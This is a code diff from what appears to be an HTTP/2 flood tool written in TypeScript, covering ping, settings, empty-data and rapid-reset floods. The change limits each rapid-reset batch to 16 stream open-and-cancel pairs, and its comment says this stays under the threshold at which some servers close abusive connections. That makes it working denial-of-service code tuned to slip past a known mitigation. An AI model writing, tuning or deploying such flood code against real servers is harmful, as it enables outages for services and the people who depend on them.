@@ -9,7 +9,7 @@ import { concatenate } from "../../src/wire/octets.ts";
 /** The name of a flood. */
 export type Http2Flood = "ping" | "settings" | "empty_data" | "rapid_reset";
 
-/** Gives, each time, some 16 KiB of frames to send next. */
+/** Gives, each time, some frames to send next. */
 export type FrameSource = () => Uint8Array;
 
 const HEADER_OCTETS = 9;
@@ -17,6 +17,8 @@ const BATCH_OCTETS = 16 * 1024;
 const TYPE = { data: 0, headers: 1, rstStream: 3, settings: 4, ping: 6 } as const;
 const END_STREAM = 0x01;
 const END_HEADERS = 0x04;
+/** Some servers end a connection that cancels 20 requests before they could look at one. */
+const RESETS_AT_ONCE = 16;
 const CANCEL = Uint8Array.of(0, 0, 0, 8);
 
 /** Entries of HPACK's static table (RFC 7541 appendix A), as indexed fields. */
@@ -73,8 +75,7 @@ function rapidReset(block: Uint8Array): FrameSource {
       frame(TYPE.rstStream, 0, stream, CANCEL),
     ];
   };
-  const pairs = Math.ceil(BATCH_OCTETS / (2 * HEADER_OCTETS + block.length + CANCEL.length));
-  return () => concatenate(Array.from({ length: pairs }, pair).flat());
+  return () => concatenate(Array.from({ length: RESETS_AT_ONCE }, pair).flat());
 }
 
 function fieldBlock(method: keyof typeof METHOD, authority: string, secure: boolean): Uint8Array {
